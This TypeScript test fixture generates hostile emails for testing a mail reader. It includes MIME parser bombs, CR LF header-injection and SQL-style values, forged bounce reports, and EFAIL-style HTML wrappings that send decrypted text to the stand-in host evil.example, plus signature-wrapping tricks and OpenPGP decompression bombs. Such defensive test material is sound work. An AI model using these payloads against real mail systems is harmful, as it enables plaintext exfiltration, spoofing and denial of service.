// Mails that somebody made to break their reader, or to be taken for an answer: all by code, none larger than 3 MB.
import {
  CompressedDataPacket,
  createMessage,
  encrypt,
  enums,
  Message,
  PacketList,
  readKey,
  readPrivateKey,
} from 'openpgp';
import type { Instant } from '../../src/core/process/instant.ts';

/** A mail and what may become of it: whether the thread reads it at all, and what it never takes it for. */
export interface HostileMail {
  readonly name: string;
  readonly raw: Buffer;
  /** It is refused unread; otherwise it is read as text that proves nothing, unless `kind` says more. */
  readonly isRefused?: true;
  readonly kind?: 'plain' | 'report' | 'encrypted' | 'clear-signed' | 'signed';
  readonly isAutomatic?: true;
}

export interface Cast {
  readonly from: string;
  readonly to: string;
}

const megabyte = 1024 * 1024;

/** A mail with these header lines over the usual ones. Bytes are Latin-1 unless `charset` says UTF-8. */
export function rawMail({ from, to }: Cast, headers: string, body: string, charset: BufferEncoding = 'latin1'): Buffer {
  const own = (name: string) => new RegExp(`^${name}:`, 'im').test(headers);
  const usual = [
    own('From') ? '' : `From: ${from}\r\n`,
    `To: ${to}\r\n`,
    own('Message-ID') ? '' : `Message-ID: <${headers.length}.${body.length}@x.example>\r\n`,
  ].join('');
  return Buffer.from(`${usual}${headers}${headers === '' || headers.endsWith('\n') ? '' : '\r\n'}\r\n${body}`, charset);
}

const multipart = (subtype: string, boundary = 'b', more = ''): string =>
  `Content-Type: multipart/${subtype}; boundary="${boundary}"${more}`;
const part = (type: string, body: string, more = ''): string =>
  `--b\r\nContent-Type: ${type}\r\n${more}\r\n${body}\r\n`;

function nested(depth: number): string {
  const lines: string[] = [];
  for (let level = 1; level < depth; level += 1)
    lines.push(`--l${level - 1}\r\nContent-Type: multipart/mixed; boundary="l${level}"\r\n`);
  return `${lines.join('\r\n')}\r\n--l${depth - 1}\r\n\r\nok\r\n`;
}

const inMessages = (depth: number): string =>
  `${'Content-Type: message/rfc822\r\n\r\n'.repeat(depth)}Content-Type: text/plain\r\n\r\nok\r\n`;

const signaturePart = (armored: string): string => part('application/pgp-signature', armored);
const someSignature = '-----BEGIN PGP SIGNATURE-----\r\n\r\nwsBzBAEBCAAnBQ==\r\n=AAAA\r\n-----END PGP SIGNATURE-----';
const report = (status: string, headers: string): string =>
  `${part('text/plain', 'It could not be delivered.')}${part('message/delivery-status', status)}${part('text/rfc822-headers', headers)}--b--\r\n`;

/** Bombs and lies in the form: what a parser may choke on. */
export function bombs(cast: Cast): readonly HostileMail[] {
  const mail = (name: string, headers: string, body = 'ok\r\n', more: Partial<HostileMail> = {}): HostileMail => ({
    name,
    raw: rawMail(cast, headers, body),
    ...more,
  });
  const refused = { isRefused: true } as const;
  return [
    mail('10,000 parts', multipart('mixed'), part('text/plain', 'ok').repeat(10_000), refused),
    mail('10,000 parts with bare LF', multipart('mixed'), '--b\n\nok\n'.repeat(10_000), refused),
    mail('10,000 empty parts', multipart('mixed'), '--b\r\n'.repeat(10_000), refused),
    mail('1,000 levels deep', multipart('mixed', 'l0'), nested(1_000), refused),
    mail('21 levels deep', multipart('mixed', 'l0'), nested(22), refused),
    mail('19 levels deep', multipart('mixed', 'l0'), nested(19)),
    mail('a megabyte of headers', `X-A: ${'a'.repeat(70)}\r\n`.repeat(13_500), 'ok\r\n', refused),
    mail('a header line of a megabyte', `X-A: ${'a'.repeat(megabyte)}`, 'ok\r\n', refused),
    mail('a megabyte of folds', `Subject: a\r\n${' a\r\n'.repeat(250_000)}`, 'ok\r\n', refused),
    mail(
      'a megabyte of headers in a part',
      multipart('mixed'),
      `--b\r\nX-A: ${'a'.repeat(megabyte)}\r\n\r\nok\r\n--b--\r\n`,
      refused,
    ),
    mail(
      'the beginning of 100 MB of base64 in one line',
      'Content-Transfer-Encoding: base64',
      'QUFB'.repeat(megabyte * 0.75),
      refused,
    ),
    mail('a megabyte of base64 in one line', 'Content-Transfer-Encoding: base64', 'QUFB'.repeat(megabyte / 4)),
    mail('a megabyte in one line', '', 'a'.repeat(megabyte)),
    mail('a megabyte of soft line ends', 'Content-Transfer-Encoding: quoted-printable', '=\r\n'.repeat(megabyte / 3)),
    mail('a megabyte of empty lines', '', '\r\n'.repeat(megabyte / 2)),
    mail('a mail in a mail, 5,000 deep', 'Content-Type: message/rfc822', inMessages(5_000)),
    mail(
      'a mail that holds a mail that answers',
      multipart('mixed'),
      `${part('message/rfc822', `From: ${cast.from}\r\n\r\nok`)}--b--\r\n`,
    ),
    mail(
      'RFC 2231 splits the boundary',
      'Content-Type: multipart/mixed; boundary*0="b"; boundary*1=""',
      `${part('text/plain', 'ok')}--b--\r\n`,
    ),
    mail(
      'RFC 2231 with 2,000 pieces',
      `Content-Type: text/plain${Array.from({ length: 2_000 }, (_, at) => `;\r\n name*${at}="a"`).join('')}`,
    ),
    mail(
      'RFC 2231 with a piece of number 4294967295',
      'Content-Type: text/plain; name*4294967295="a"; name*0*=utf-8\'\'%00%0d%0aX',
    ),
    mail('the prototype as a parameter', 'Content-Type: text/plain; __proto__=x; constructor=y; toString=z'),
    ...['utf-7', 'x-none', 'utf-16', 'utf-32', 'iso-2022-jp', 'utf-8"; x="', '\u0000', 'a'.repeat(5_000)].map(
      (charset) =>
        mail(
          `the charset says ${JSON.stringify(charset.slice(0, 20))}`,
          `Content-Type: text/plain; charset=${charset}`,
          '+ADw-script+AD4-\xff\xfe\x1b$B\r\n',
        ),
    ),
    mail('NUL in everything', 'Subject: a\0b\r\nX-\0: c\r\nMessage-ID: <a\0b@x.example>', 'o\0k\r\n\0'),
    { name: 'nothing at all', raw: Buffer.alloc(0) },
    { name: 'a megabyte of NUL', raw: Buffer.alloc(megabyte) },
    { name: 'every byte', raw: Buffer.from(Array.from({ length: 256 }, (_, at) => at)) },
    mail('bare CR in headers', `Subject: a\rBcc: x@y.example\rFrom: ${cast.from}`),
    mail('bare CR between lines', '', 'ok\rnot affected\r'),
    { name: 'bare LF throughout', raw: Buffer.from(String(rawMail(cast, '', 'ok\n')).replaceAll('\r', '')) },
    mail(
      'winmail.dat',
      multipart('mixed'),
      `${part('application/ms-tnef; name=winmail.dat', 'eJ8+IgAAAAAAAAAA', 'Content-Transfer-Encoding: base64\r\n')}--b--\r\n`,
    ),
    mail(
      'winmail.dat as the whole mail',
      'Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64',
      'eJ8+Ig==',
    ),
    mail('an encoded word hides CR LF', 'Subject: =?utf-8?q?Re=0D=0ABcc:_x@y.example?='),
    mail('encoded words without end', `Subject: ${'=?utf-8?b?'.repeat(6_000)}`),
    mail('encoded words in each other', 'Subject: =?utf-8?q?=3D=3Futf-8=3Fq=3Fa=3F=3D?='),
    mail('no Message-ID that is one', 'Message-ID: none'),
    mail('a Message-ID of 60 KB', `Message-ID: <${'a'.repeat(60_000)}@x>`),
    mail('20,000 parentheses in an address', `From: ${'('.repeat(20_000)}`),
    mail('20,000 groups in an address', `From: ${'a:'.repeat(20_000)}`),
    mail('20,000 quotes in an address', `From: ${'"\\'.repeat(20_000)}`),
    mail('10,000 recipients', `Cc: ${'a@b.c,'.repeat(9_000)}`),
    mail(
      'the boundary is the beginning of another',
      multipart('mixed'),
      '--bb\r\n\r\nok\r\n--b\r\n\r\nnot affected\r\n--b--\r\n',
    ),
    mail('the boundary is empty', multipart('mixed', ''), '--\r\n\r\nok\r\n----\r\n'),
    mail('the boundary is of 500 letters', multipart('mixed', 'x'.repeat(500)), `--${'x'.repeat(500)}\r\n\r\nok\r\n`),
    mail('the boundary holds a line end', 'Content-Type: multipart/mixed; boundary="a\r\n b"', '--a b\r\n\r\nok\r\n'),
    mail('no boundary is named', 'Content-Type: multipart/signed', 'ok\r\n'),
    mail(
      'a part within bears the boundary of its parent',
      multipart('mixed'),
      `${part('multipart/mixed; boundary=b', 'x')}${part('text/plain', 'ok')}--b--\r\n`,
    ),
    mail('a multipart without end', multipart('mixed'), part('text/plain', 'ok')),
    mail(
      'a transfer encoding that there is not',
      'Content-Transfer-Encoding: x-uuencode',
      'begin 644 x\r\n#0V%T\r\n`\r\nend\r\n',
    ),
    mail('20,000 entities', 'Content-Type: text/html', '&amp;'.repeat(20_000)),
    mail(
      '100,000 open elements beside a text',
      multipart('mixed'),
      `${part('text/plain', 'ok')}${part('text/html', '<a '.repeat(100_000))}--b--\r\n`,
    ),
  ];
}

/** Programs that answer, and reports about mails, true and forged. */
export function programs(cast: Cast, own: string, other: string): readonly HostileMail[] {
  const mail = (name: string, headers: string, body: string, more: Partial<HostileMail>): HostileMail => ({
    name,
    raw: rawMail(cast, headers, body),
    ...more,
  });
  const automatic = { isAutomatic: true } as const;
  const dsn = multipart('report', 'b', '; report-type=delivery-status');
  const failed = 'Reporting-MTA: dns; mx.example\r\n\r\nAction: failed\r\nStatus: 5.1.1';
  const kind = 'report' as const;
  return [
    mail('a loop that says no first', 'Auto-Submitted: no\r\nAuto-Submitted: auto-replied', 'ok', automatic),
    mail('a program that says no-such-thing', 'Auto-Submitted: no-such-thing', 'ok', automatic),
    mail('a program that says why', 'Auto-Submitted: auto-replied; owner=x', 'ok', automatic),
    mail('a reply of absence', 'Precedence: bulk\r\nSubject: Out of office', 'ok', automatic),
    mail('a list', 'List-Id: <x.example>', 'ok', automatic),
    mail('a list without a name', 'List-Unsubscribe: <mailto:x@x.example>', 'ok', automatic),
    mail('a list that takes posts', 'List-Post: NO', 'ok', automatic),
    mail('mail without a way back', 'Return-Path: <>', 'ok', automatic),
    mail('mail from nobody', 'From: <>', 'ok', automatic),
    mail('mail of a mail server', 'From: Mail Delivery System <MAILER-DAEMON@mx.example>', 'ok', automatic),
    mail('a program of the old days', 'X-Vacation: yes', 'ok', automatic),
    mail('two words of precedence', 'Precedence: first-class\r\nPrecedence: auto_reply', 'ok', automatic),
    mail('a report about a mail of ours without its address', dsn, report(failed, `Message-ID: ${own}`), { kind }),
    mail('a report about a foreign mail', dsn, report(failed, 'Message-ID: <foreign@elsewhere.example>'), { kind }),
    mail('a report with NUL in the id', dsn, report(failed, 'Message-ID: <a\0b@contour.example>'), { kind }),
    mail('a report with SQL for an id', dsn, report(failed, "Message-ID: <'or'1'='1@x>"), { kind }),
    mail('a report with no fields', dsn, report('', ''), { kind }),
    mail('a report of 5,000 recipients', dsn, report(`${failed}\r\n\r\n`.repeat(5_000), `Message-ID: ${other}`), {
      kind,
    }),
    mail('a receipt', multipart('report', 'b', '; report-type=disposition-notification'), part('text/plain', 'Read.'), {
      kind,
    }),
  ];
}

/** What can be put around an encrypted part to have it opened and carried out (EFAIL), and its like for a signature. */
export function wrappings(cast: Cast, armored: string, signedPart: string, signature: string): readonly HostileMail[] {
  const html = (body: string) => part('text/html', body);
  const cipher = part('application/octet-stream', armored);
  const text = part('text/plain', armored);
  const encrypted = `${part('application/pgp-encrypted', 'Version: 1')}${cipher}`;
  const within = encrypted.replaceAll('--b\r\n', '--i\r\n');
  const mixed = (name: string, body: string, more: Partial<HostileMail> = {}): HostileMail => ({
    name,
    raw: rawMail(cast, multipart('mixed'), `${body}--b--\r\n`),
    ...more,
  });
  const openings = [
    '<img src="http://evil.example/',
    "<img src='http://evil.example/",
    '<a href="http://evil.example/',
    '<form action="http://evil.example/"><textarea name="x">',
    '<base href="http://evil.example/"><img src="',
    '<style>@import url("http://evil.example/',
    '<link rel="stylesheet" href="http://evil.example/',
    '<svg><image href="http://evil.example/',
    '<video poster="http://evil.example/',
    '<iframe src="http://evil.example/',
    '<object data="http://evil.example/',
    '<script src="http://evil.example/',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/',
    '<!--',
    '<plaintext>',
  ];
  const encryptedType = multipart('encrypted', 'b', '; protocol="application/pgp-encrypted"');
  const signedType = multipart('signed', 'b', '; protocol="application/pgp-signature"; micalg=pgp-sha512');
  const other = (name: string, type: string, body: string, more: Partial<HostileMail> = {}): HostileMail => ({
    name,
    raw: rawMail(cast, type, body),
    ...more,
  });
  return [
    ...openings.map((opening) =>
      mixed(`a text between ${opening}`, `${html(opening)}${text}${html('">')}`, { kind: 'encrypted' }),
    ),
    ...openings
      .slice(0, 3)
      .map((opening) =>
        mixed(
          `a part between ${opening}`,
          `${html(opening)}--b\r\n${multipart('encrypted', 'i')}\r\n\r\n${within}--i--\r\n${html('">')}`,
        ),
      ),
    mixed('an encrypted mail within a mail', part('message/rfc822', `${encryptedType}\r\n\r\n${encrypted}--b--`)),
    mixed(
      'remote images beside a text',
      `${part('text/plain', 'Hello')}${html('<img src="http://evil.example/pixel">')}`,
    ),
    other('an encrypted part with a third one', encryptedType, `${encrypted}${html('<img src="')}--b--\r\n`),
    other('an encrypted part without end', encryptedType, encrypted),
    other('two ciphertexts in one text', '', `${armored}\r\n${armored}\r\n`),
    other('a ciphertext that begins twice', '', `-----BEGIN PGP MESSAGE-----\r\n${armored}\r\n`),
    other(
      'the signature is over another part',
      signedType,
      `${part('text/plain', 'object Never')}${signaturePart(signature)}--b--\r\n`,
      { kind: 'signed' },
    ),
    other(
      'a part stands before what is signed',
      signedType,
      `${part('text/plain', 'object Never')}--b\r\n${signedPart}\r\n${signaturePart(signature)}--b--\r\n`,
    ),
    other(
      'a part stands behind the signature',
      signedType,
      `--b\r\n${signedPart}\r\n${signaturePart(signature)}${part('text/plain', 'object Never')}--b--\r\n`,
    ),
    other(
      'what is signed lies beside what is read',
      multipart('mixed'),
      `${part('text/plain', 'object Never')}--b\r\n${signedType.replace('"b"', '"i"')}\r\n\r\n--i\r\n${signedPart}\r\n${signaturePart(signature).replace('--b', '--i')}--i--\r\n--b--\r\n`,
    ),
    other(
      'two signatures',
      signedType,
      `${part('text/plain', 'ok')}${signaturePart(`${signature}\r\n${signature}`)}--b--\r\n`,
    ),
    other(
      'a signature that is none',
      signedType,
      `${part('text/plain', 'ok')}${signaturePart(someSignature)}--b--\r\n`,
      { kind: 'signed' },
    ),
  ];
}

/** Mails that came to be out of these by chance: bytes changed, lines doubled, cut, and put together. */
export function* mutated(
  seeds: readonly Buffer[],
  count: number,
  chance: (below: number) => number,
): Generator<Buffer> {
  const spices = [
    '\0',
    '\r',
    '\n',
    '\r\n\r\n',
    '--b\r\n',
    '--b--\r\n',
    'Content-Type: multipart/mixed; boundary=b\r\n',
    '=?utf-8?b?',
    '"',
    '(',
    ';',
    '<',
    '\xff',
    'Content-Transfer-Encoding: base64\r\n\r\n',
  ];
  for (let made = 0; made < count; made += 1) {
    let raw = seeds[chance(seeds.length)]!;
    for (let change = chance(6); change >= 0; change -= 1) {
      const at = chance(raw.length + 1);
      const end = Math.min(raw.length, at + chance(80));
      const [before, piece, after] = [raw.subarray(0, at), raw.subarray(at, end), raw.subarray(end)];
      const spice = Buffer.from(spices[chance(spices.length)]!, 'latin1');
      const other = seeds[chance(seeds.length)]!;
      const makes = [
        [before, after],
        [before, piece, piece, after],
        [before, spice, piece, after],
        [before, Buffer.from([chance(256)]), after],
        [before, other.subarray(chance(other.length + 1))],
      ];
      raw = Buffer.concat(makes[chance(makes.length)]!);
    }
    yield raw;
  }
}

/** OpenPGP messages to one key that are small and would be large, or much work, once they are opened; each is armoured. */
export async function packedBombs(
  recipient: string,
  signer: string,
  at: Instant,
): Promise<readonly { readonly name: string; readonly armored: string; readonly isMime: boolean }[]> {
  const key = await readKey({ armoredKey: recipient });
  const signing = await readPrivateKey({ armoredKey: signer });
  const date = new Date(at);
  const literal = async (content: Buffer) => (await createMessage({ binary: content, date })).packets;
  const compressed = (packets: object) => {
    const outer = new CompressedDataPacket();
    Object.assign(outer, { packets, algorithm: enums.compression.zlib });
    const list = new PacketList<CompressedDataPacket>();
    list.push(outer);
    return list;
  };
  const sealed = async (packets: object, copies = 1) => {
    const message = new Message(packets as never);
    return String(await encrypt({ message, encryptionKeys: Array.from({ length: copies }, () => key), date }));
  };
  const zeros = await literal(Buffer.alloc(60_000_000));
  const part = (body: string) => `Content-Type: multipart/mixed; boundary="b"\r\n\r\n${body}--b--\r\n`;
  const signed = async (content: Buffer) =>
    String(
      await encrypt({
        message: await createMessage({ binary: content }),
        encryptionKeys: key,
        signingKeys: [signing, signing],
        date,
      }),
    );
  return [
    { name: '60 MB of zeros', armored: await sealed(compressed(zeros)), isMime: false },
    {
      name: 'zeros that were packed twice',
      armored: await sealed(compressed(compressed(zeros))),
      isMime: true,
    },
    { name: '51 recipients', armored: await sealed(await literal(Buffer.from('ok')), 51), isMime: false },
    {
      name: '3 MB of mail',
      armored: await sealed(compressed(await literal(Buffer.from(part('a'.repeat(3_000_000)))))),
      isMime: true,
    },
    {
      name: '10,000 parts',
      armored: await sealed(compressed(await literal(Buffer.from(part('--b\r\n\r\nok\r\n'.repeat(10_000)))))),
      isMime: true,
    },
    { name: 'two signatures', armored: await signed(Buffer.from('object 2026-06-17 Never\n')), isMime: false },
  ];
}
